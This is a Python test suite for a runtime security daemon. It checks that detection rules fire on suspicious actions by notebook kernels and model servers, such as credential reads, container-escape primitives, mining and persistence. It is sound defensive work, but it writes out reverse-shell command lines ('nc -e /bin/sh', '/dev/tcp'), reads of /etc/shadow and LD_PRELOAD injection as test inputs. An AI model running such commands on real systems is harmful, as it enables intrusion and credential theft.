# SPDX-License-Identifier: Apache-2.0
"""Every shipped detection, positive and negative, against the real daemon
on the bundled policies. nbw_actor performs each action; a test-only target
file gives it a role ("nbw_actor as-server ..." is a model server,
"nbw_actor as-kernel ..." a notebook kernel). Each case asserts the exact set
of rules among those it is about. Non-loopback addresses only inside a
network namespace the actor creates. Every alert is checked against
docs/alert.schema.json."""
import os
import shutil
import subprocess
import tempfile
import time
import unittest

import jsonschema

from nbwtest import ACTOR, ACTOR_ROLE_TARGETS, SOURCE, Daemon, alert_schema, require_root

class DetectionsTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        require_root()
        cls.tmp = tempfile.mkdtemp(prefix="nbwdet.")
        cls.policies = os.path.join(cls.tmp, "policies")
        shutil.copytree(os.path.join(SOURCE, "policies"), cls.policies)
        with open(os.path.join(cls.policies, "zz-test-targets.yaml"), "w") as f:
            f.write(ACTOR_ROLE_TARGETS)
        cls.schema = alert_schema()
        cls.work = os.path.join(cls.tmp, "work")
        os.makedirs(os.path.join(cls.work, ".aws"))
        for name in ("data.csv", ".aws/credentials"):
            with open(os.path.join(cls.work, name), "w") as f:
                f.write("x\n")
        for name in ("xmrig", "wget", "nc"):  # harmless stand-ins with telling names
            shutil.copy("/bin/true", os.path.join(cls.work, name))
        cls.daemon = Daemon(policies=cls.policies)

    @classmethod
    def tearDownClass(cls):
        cls.daemon.stop()
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def run_case(self, role, args, expect, about):
        before = len([l for l in self.daemon.lines() if l.get("kind") == "alert"])
        p = subprocess.run([ACTOR, "as-" + role, *args], capture_output=True, text=True)
        time.sleep(0.4)
        deadline = time.time() + 5
        alerts = []
        while time.time() < deadline:
            alerts = [l for l in self.daemon.lines() if l.get("kind") == "alert"][before:]
            if set(expect) <= {a["rule"]["id"] for a in alerts}:
                break
            time.sleep(0.1)
        for a in alerts:
            jsonschema.validate(a, self.schema)
        # The actor's own exec is not part of any case (the checkout may
        # well live under /tmp).
        actor = os.path.realpath(ACTOR)
        alerts = [a for a in alerts if not (a["event"]["type"] == "exec"
                                            and a["event"]["exec"].get("exe") == actor)]
        got = {a["rule"]["id"] for a in alerts} & set(about)
        self.assertEqual(got, set(expect), "actor %s %s: alerts %s" % (role, args, [
            (a["rule"]["id"], a["summary"]) for a in alerts]))
        first = {}
        for a in alerts:
            first.setdefault(a["rule"]["id"], a)
        self.last_alerts = alerts
        return first, p

    # ---- credentials and secrets -------------------------------------------------
    def test_host_credential_read(self):
        a, _ = self.run_case("kernel", ["open", "/etc/shadow"], ["NBW-100"], ["NBW-100"])
        al = a["NBW-100"]
        self.assertEqual(al["severity"], "critical")
        self.assertEqual(al["event"]["open"]["path"], "/etc/shadow")
        self.assertEqual(al["target"]["role"], "notebook-kernel")
        self.assertIn("T1552.001", al["mitre"])
        self.run_case("kernel", ["open", "/etc/hostname"], [], ["NBW-100"])

    def test_other_process_environ(self):
        self.run_case("kernel", ["open", "/proc/%d/environ" % os.getpid()], ["NBW-101"],
                      ["NBW-101"])
        self.run_case("kernel", ["open", "/proc/self/environ"], [], ["NBW-101"])

    def test_cloud_credentials_by_role(self):
        creds = os.path.join(self.work, ".aws/credentials")
        self.run_case("server", ["open", creds], ["NBW-303"], ["NBW-303", "NBW-200"])
        a, _ = self.run_case("kernel", ["open", creds], ["NBW-200"], ["NBW-303", "NBW-200"])
        self.assertEqual(a["NBW-200"]["severity"], "notice")

    def test_runtime_socket(self):
        self.run_case("kernel", ["open", "/run/docker.sock"], ["NBW-102"], ["NBW-102"])
        self.run_case("kernel", ["open", "/run/not-a-runtime.sock"], [], ["NBW-102"])

    # ---- network -----------------------------------------------------------------
    def test_cloud_metadata(self):
        a, _ = self.run_case("kernel", ["connect-isolated4", "169.254.169.254", "80"],
                             ["NBW-103"], ["NBW-103"])
        self.assertEqual(a["NBW-103"]["event"]["net"]["address"], "169.254.169.254")
        self.run_case("kernel", ["connect-isolated6", "fd00:ec2::254", "80"], ["NBW-103"],
                      ["NBW-103"])
        self.run_case("kernel", ["connect-isolated4", "10.9.8.7", "80"], [], ["NBW-103"])

    def test_kubernetes_api(self):
        self.run_case("kernel", ["connect-isolated4", "10.96.0.1", "6443"], ["NBW-104"],
                      ["NBW-104"])
        self.run_case("kernel", ["connect-isolated4", "10.96.0.1", "8443"], [], ["NBW-104"])
        # The API server as the pod's environment names it, on 443.
        self.run_case("kernel", ["spawn", "/usr/bin/env", "env",
                                 "KUBERNETES_SERVICE_HOST=10.96.0.1",
                                 "KUBERNETES_SERVICE_PORT=443", ACTOR, "connect-isolated4",
                                 "10.96.0.1", "443"], ["NBW-104"], ["NBW-104"])
        self.run_case("kernel", ["spawn", "/usr/bin/env", "env",
                                 "KUBERNETES_SERVICE_HOST=10.96.0.1",
                                 "KUBERNETES_SERVICE_PORT=443", ACTOR, "connect-isolated4",
                                 "10.96.0.2", "443"], [], ["NBW-104"])

    def test_mining_pool_port(self):
        self.run_case("kernel", ["connect-isolated4", "10.1.2.3", "3333"], ["NBW-141"],
                      ["NBW-141"])
        self.run_case("kernel", ["tcp4"], [], ["NBW-141"])

    def test_reverse_shell_dup(self):
        self.run_case("kernel", ["dup-socket"], ["NBW-130"], ["NBW-130"])
        # stdin and stdout; stderr alone is not the pattern
        self.assertEqual([a["event"]["dup"]["newfd"] for a in self.last_alerts
                          if a["rule"]["id"] == "NBW-130"], [0, 1])
        self.run_case("kernel", ["tcp4"], [], ["NBW-130"])

    def test_reverse_shell_command_line(self):
        self.run_case("kernel", ["spawn", "/bin/sh", "sh", "-c",
                                 "exec 2>/dev/null; echo x >/dev/tcp/127.0.0.1/9 || true"],
                      ["NBW-131"], ["NBW-131"])
        self.run_case("kernel", ["spawn", os.path.join(self.work, "nc"), "nc", "-e", "/bin/sh",
                                 "127.0.0.1", "9"], ["NBW-131"], ["NBW-131"])
        self.run_case("kernel", ["spawn", os.path.join(self.work, "nc"), "nc", "-z",
                                 "127.0.0.1", "9"], [], ["NBW-131"])
        self.run_case("kernel", ["spawn", "/bin/sh", "sh", "-c", "true"], [], ["NBW-131"])

    # ---- escape primitives -------------------------------------------------------
    def test_mount(self):
        d = tempfile.mkdtemp(dir=self.work)
        self.run_case("kernel", ["mount", d], ["NBW-110", "NBW-111"], ["NBW-110", "NBW-111"])
        d2 = tempfile.mkdtemp(dir=self.work)
        self.run_case("kernel", ["new-mount-api", d, d2], ["NBW-110", "NBW-111"],
                      ["NBW-110", "NBW-111"])

    def test_user_namespace(self):
        self.run_case("kernel", ["unshare"], ["NBW-111"], ["NBW-111"])
        self.run_case("kernel", ["clone-newns"], ["NBW-111"], ["NBW-111"])
        # a network namespace alone is not an escape primitive
        self.run_case("kernel", ["connect-isolated4", "10.9.8.7", "80"], [], ["NBW-111"])

    def test_setns(self):
        self.run_case("kernel", ["setns"], ["NBW-112"], ["NBW-112"])

    def test_escape_files(self):
        self.run_case("kernel", ["creat", os.path.join(self.work, "release_agent")],
                      ["NBW-113"], ["NBW-113"])
        self.run_case("kernel", ["creat", os.path.join(self.work, "agent_release")], [],
                      ["NBW-113"])

    def test_host_root_and_devices(self):
        self.run_case("kernel", ["open", "/proc/1/root/etc/hostname"], ["NBW-114"], ["NBW-114"])
        self.run_case("kernel", ["open", "/dev/null"], [], ["NBW-114"])

    def test_chroot_and_pivot_root(self):
        self.run_case("kernel", ["chroot"], ["NBW-115"], ["NBW-115"])

    def test_kernel_modules(self):
        self.run_case("kernel", ["modules"], ["NBW-120"], ["NBW-120"])

    def test_bpf_and_perf(self):
        self.run_case("kernel", ["bpf-perf"], ["NBW-121"], ["NBW-121"])

    def test_ptrace(self):
        a, out = self.run_case("kernel", ["ptrace"], ["NBW-122"], ["NBW-122"])
        self.assertEqual(a["NBW-122"]["event"]["args"]["request"], "PTRACE_SEIZE")
        self.run_case("kernel", ["kill-other"], [], ["NBW-122"])

    def test_fileless_exec(self):
        self.run_case("kernel", ["memfd-exec"], ["NBW-123"], ["NBW-123"])
        self.run_case("kernel", ["spawn", "/bin/true", "true"], [], ["NBW-123"])

    def test_exec_from_tmp(self):
        self.run_case("kernel", ["spawn", os.path.join(self.work, "wget"), "wget"],
                      ["NBW-124"], ["NBW-124"])
        self.run_case("kernel", ["spawn", "/bin/true", "true"], [], ["NBW-124"])

    def test_exec_of_a_file_the_target_wrote(self):
        dropped = os.path.join(self.work, "dropped-payload")
        a, _ = self.run_case("kernel", ["spawn", "/bin/sh", "sh", "-c",
                                        "cp /bin/true %s && %s" % (dropped, dropped)],
                             ["NBW-129"], ["NBW-129"])
        self.assertEqual(a["NBW-129"]["event"]["exec"]["exe"], dropped)
        self.assertIn("cp /bin/true", a["NBW-129"]["summary"])
        # a program nobody wrote just now
        self.run_case("kernel", ["spawn", "/bin/sh", "sh", "-c", "/bin/true"], [], ["NBW-129"])

    def test_ld_preload(self):
        a, _ = self.run_case("kernel", ["spawn", "/usr/bin/env", "env",
                                        "LD_PRELOAD=/tmp/nbw-evil.so", "/bin/true"],
                             ["NBW-132"], ["NBW-132"])
        self.assertEqual(a["NBW-132"]["event"]["exec"]["exe"], "/usr/bin/true")
        self.assertIn("LD_PRELOAD=/tmp/nbw-evil.so", a["NBW-132"]["summary"])
        self.assertNotIn("env", a["NBW-132"]["event"]["exec"])  # the environment stays private
        self.run_case("kernel", ["spawn", "/usr/bin/env", "env", "NOT_PRELOAD=x", "/bin/true"],
                      [], ["NBW-132"])

    def test_privilege_raise_from_non_root(self):
        self.run_case("kernel", ["setuid-as-nobody"], ["NBW-126"], ["NBW-126"])
        self.run_case("kernel", ["creds"], [], ["NBW-126"])  # root staying root

    def test_io_uring(self):
        self.run_case("kernel", ["io_uring"], ["NBW-128"], ["NBW-128"])

    def test_miner(self):
        self.run_case("kernel", ["spawn", os.path.join(self.work, "xmrig"), "xmrig"],
                      ["NBW-140"], ["NBW-140"])
        self.run_case("kernel", ["spawn", "/bin/sh", "sh", "-c",
                                 "true stratum+tcp://pool.example:3333"], ["NBW-140"],
                      ["NBW-140"])
        self.run_case("kernel", ["spawn", "/bin/true", "true"], [], ["NBW-140"])

    def test_persistence(self):
        self.run_case("kernel", ["creat", os.path.join(self.work, ".bashrc")], ["NBW-150"],
                      ["NBW-150"])
        pth = os.path.join(self.work, "lib/site-packages")
        os.makedirs(pth, exist_ok=True)
        self.run_case("kernel", ["creat", os.path.join(pth, "evil.pth")], ["NBW-150"],
                      ["NBW-150"])
        self.run_case("kernel", ["creat", os.path.join(self.work, "notes.txt")], [],
                      ["NBW-150"])

    # ---- roles -------------------------------------------------------------------
    def test_shell_from_model_server_only(self):
        a, _ = self.run_case("server", ["spawn", "/bin/sh", "sh", "-c", "true"], ["NBW-300"],
                             ["NBW-300"])
        self.assertEqual(a["NBW-300"]["target"]["role"], "model-server")
        self.assertEqual(a["NBW-300"]["event"]["exec"]["argv"], ["sh", "-c", "true"])
        self.run_case("kernel", ["spawn", "/bin/sh", "sh", "-c", "true"], [], ["NBW-300"])

    def test_network_tool_by_role(self):
        tool = os.path.join(self.work, "wget")
        self.run_case("server", ["spawn", tool, "wget"], ["NBW-301"], ["NBW-301", "NBW-201"])
        self.run_case("kernel", ["spawn", tool, "wget"], ["NBW-201"], ["NBW-301", "NBW-201"])

    def test_interpreter_from_model_server(self):
        self.run_case("server", ["spawn", "/usr/bin/perl", "perl", "-e", "1"], ["NBW-302"],
                      ["NBW-302"])
        self.run_case("kernel", ["spawn", "/usr/bin/perl", "perl", "-e", "1"], [], ["NBW-302"])

    def test_untargeted_process_raises_nothing(self):
        before = len([l for l in self.daemon.lines() if l.get("kind") == "alert"])
        subprocess.run([ACTOR, "open", "/etc/shadow"], check=True)
        time.sleep(0.5)
        after = [l for l in self.daemon.lines() if l.get("kind") == "alert"][before:]
        self.assertEqual(after, [])


if __name__ == "__main__":
    unittest.main()
